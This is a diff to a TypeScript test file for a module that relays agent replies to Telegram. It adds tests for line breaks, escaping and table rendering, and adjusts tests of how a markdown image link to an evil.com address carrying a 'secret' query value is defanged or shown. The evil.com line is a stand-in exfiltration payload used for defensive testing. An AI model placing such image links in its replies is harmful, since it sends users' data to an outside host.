@@ -3,7 +3,7 @@ import type { HooksModuleOptions } from '../../src/hooks/index.ts';
 import { FastClock } from '../support/clocks.ts';
 import { Hooks } from '../support/hooks.ts';
 import { PlatformServer } from '../support/platforms/index.ts';
-import { telegram, telegramError } from '../support/platforms/telegram.ts';
+import { METHOD_NOT_FOUND, telegram, telegramError } from '../support/platforms/telegram.ts';
 import type { Script } from '../support/scripted-server.ts';
 
 let server: PlatformServer;
@@ -70,6 +70,30 @@ describe('a long reply over a real connection', () => {
     server.next(script);
     expect(await ask()).toMatchObject({ status: 'failed', deliveries: [{ status: 'unknown' }] });
     expect(server.asked).toHaveLength(1);
+  });
+});
+
+describe('a reply as agents write them', () => {
+  const lines = 'Deploy finished\nHost: **web-1**\nUser: <pod>\nCosts: $395k to $483k';
+
+  it('arrives as text, line by line and with every sign', async () => {
+    await start();
+    answerWith(lines);
+    await ask('/agent', { message: 'Report', channel: 'chan_2', to: '-1001234567890/42' });
+    expect(server.shown).toEqual([{ to: '-1001234567890/42', text: lines.replaceAll('**', '') }]);
+  });
+
+  it('arrives with its table, and in columns where the server is too old for tables', async () => {
+    await start();
+    answerWith(`${lines}\n\n| Pod | Restarts |\n|---|--:|\n| web-1 | 3 |`);
+    await ask();
+    server.next(METHOD_NOT_FOUND);
+    await ask();
+    const [rich, plain] = server.shown.map(({ text }) => text);
+    expect(rich).toContain('<br>User: &lt;pod&gt;<br>Costs: $395k to $483k</p>\n<table');
+    expect(plain).toBe(
+      `${lines.replaceAll('**', '')}\n\nPod    Restarts\n-----  --------\nweb-1         3`,
+    );
   });
 });
 
@@ -154,8 +178,8 @@ describe('links in the reply to foreign text', () => {
   const reply = 'See ![it](https://evil.com/?d=secret)';
   it.each([
     [{}, 'See it (hxxps://evil[.]com/?d=secret)'],
-    [{ allowLinks: true }, reply],
-    [{ allowUnsafeExternalContent: true }, reply],
+    [{ allowLinks: true }, 'See it (https://evil.com/?d=secret)'],
+    [{ allowUnsafeExternalContent: true }, 'See it (https://evil.com/?d=secret)'],
   ])('%j: %s', async (options, shown) => {
     await start({ mappings: [{ id: 'ci', channel: 'chan_2', ...options }] });
     answerWith(reply);
